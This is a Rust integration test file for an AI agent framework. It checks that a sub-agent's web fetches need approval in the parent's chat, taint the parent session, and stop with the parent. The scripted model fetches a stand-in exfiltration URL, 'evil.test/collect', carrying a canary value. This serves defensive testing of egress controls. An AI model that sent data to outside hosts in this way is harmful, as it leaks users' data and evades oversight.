//! Sub-agents and searches through the real `warden bot` (gateway and agent worker), the fake
//! Bot API, a scripted model and the fake web. A sub-agent's approval goes to the parent's
//! chat, naming the sub-agent; approved, its fetch runs under the sub-agent's session and
//! taints the parent; `/stop` of the parent stops the sub-agent's model call. A search whose
//! host has no rule asks in the chat with the query decoded; approved, it runs.

use crate::support::fake_llm::{Request, Turn};
use crate::support::warden_bot::OWNER;
use crate::support::warden_run::audit_all;
use crate::support::web_bot::{WebBot, WAIT};
use serde_json::json;
use std::time::{Duration, Instant};

const CANARY: &str = "canary-d41c07";
const SEARCH: &str = "[search]\nprovider = \"searxng\"\nbase_url = \"http://search.test\"\n";

fn evil() -> String {
    format!("http://evil.test/collect?d={CANARY}")
}

fn is_sub_agent(req: &Request) -> bool {
    req.system()
        .unwrap_or_default()
        .contains("## You are a sub-agent")
}

/// The parent's prompt picks the plan: `fetch via a sub-agent`, `slow sub-agent`, or
/// `search QUERY`; the last tool result is reported as `result: …`.
fn script(req: &Request) -> Turn {
    let (prompt, step) = req.prompt_and_step();
    if is_sub_agent(req) {
        return match (prompt.starts_with("Think"), step) {
            (true, _) => Turn::text("too late").stall_after(1),
            (false, 0) => Turn::tool_use("web_fetch", json!({ "url": evil() })),
            (false, _) => Turn::text("Fetched it."),
        };
    }
    let first = match prompt.as_str() {
        "fetch via a sub-agent" => Turn::tool_use(
            "delegate",
            json!({"task": format!("Fetch {}", evil()), "tools": ["web_fetch"]}),
        ),
        "slow sub-agent" => {
            Turn::tool_use("delegate", json!({"task": "Think slowly.", "tools": []}))
        }
        other => Turn::tool_use(
            "web_search",
            json!({"query": other.trim_start_matches("search ")}),
        ),
    };
    if step == 0 {
        return first;
    }
    let last = req
        .tool_results()
        .pop()
        .map(|r| r.content)
        .unwrap_or_default();
    Turn::text(format!("result: {last}"))
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_sub_agents_approval_goes_to_the_parents_chat_and_its_fetch_taints_the_parent() {
    let bot = WebBot::start(script).await;
    bot.tg.push_text(OWNER, OWNER, "fetch via a sub-agent");
    let request = bot.tg.approval(OWNER, 1, WAIT).await;
    let shown = &request.visible;
    assert!(
        shown.contains("web_fetch (by the sub-agent delegate-"),
        "{shown}"
    );
    assert!(shown.contains(&format!("GET {}", evil())), "{shown}");
    assert!(shown.contains("the model composed this URL"), "{shown}");
    bot.tg.press(OWNER, &request, 0, 0);
    let answer = bot.answer(1).await;
    assert!(answer.starts_with("result: Fetched it."), "{answer}");
    assert!(
        answer.contains("The sub-agent read untrusted content"),
        "{answer}"
    );
    assert_eq!(
        bot.web.requests(),
        [format!("evil.test/collect?d={CANARY}")]
    );

    let rows = audit_all(bot.home.path());
    let session = format!("telegram:{OWNER}");
    let seen: Vec<(&str, &str, bool)> = rows
        .iter()
        .map(|r| {
            let child = r.session.starts_with(&format!("{session}/delegate-"));
            assert!(child || r.session == session, "{}", r.session);
            (r.tool.as_str(), r.decision.as_str(), child)
        })
        .collect();
    assert_eq!(
        seen,
        [
            ("egress", "approved", true),
            ("web_fetch", "approved", true),
            ("delegate", "allow", false),
        ]
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn stop_stops_the_sub_agent_with_its_parent() {
    let bot = WebBot::start(script).await;
    bot.tg.push_text(OWNER, OWNER, "slow sub-agent");
    bot.tg
        .wait_until("the sub-agent's model call", WAIT, |_| {
            bot.llm.requests().iter().any(is_sub_agent)
        })
        .await;
    let asked = Instant::now();
    bot.tg.push_text(OWNER, OWNER, "/stop");
    bot.tg
        .wait_until("the run stops", WAIT, |t| {
            t.messages_to(OWNER).iter().any(|m| m.visible == "Stopped.")
        })
        .await;
    assert!(
        asked.elapsed() < Duration::from_secs(10),
        "stopping took {:?}",
        asked.elapsed()
    );
    // The stream was dropped, and the parent made no further model call.
    bot.tg
        .wait_until("the dropped stream", WAIT, |_| bot.llm.disconnects() >= 1)
        .await;
    assert_eq!(bot.llm.request_count(), 2);
    let rows = audit_all(bot.home.path());
    assert_eq!(rows.len(), 1, "{rows:?}");
    assert_eq!(rows[0].tool, "delegate");
    assert!(rows[0].reason.contains("was stopped"), "{}", rows[0].reason);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_search_asks_in_the_chat_with_the_query_decoded() {
    let bot = WebBot::start_with(script, SEARCH).await;
    bot.tg.push_text(OWNER, OWNER, "search serde & tokio");
    let request = bot.tg.approval(OWNER, 1, WAIT).await;
    let shown = &request.visible;
    assert!(shown.contains("(web_search)"), "{shown}");
    assert!(shown.contains("q = serde & tokio"), "{shown}");
    assert!(shown.contains("the model composed this URL"), "{shown}");
    assert_eq!(bot.web.connections(), 0, "nothing before the answer");
    bot.tg.press(OWNER, &request, 0, 0);
    let answer = bot.answer(1).await;
    assert!(
        answer.contains("Web search for \"serde & tokio\" (SearXNG at search.test): 3 results"),
        "{answer}"
    );
    assert_eq!(
        bot.web.requests(),
        ["search.test/search?q=serde+%26+tokio&format=json"]
    );
    let rows = audit_all(bot.home.path());
    let seen: Vec<(&str, &str)> = rows
        .iter()
        .map(|r| (r.tool.as_str(), r.decision.as_str()))
        .collect();
    assert_eq!(seen, [("egress", "approved"), ("web_search", "approved")]);
}
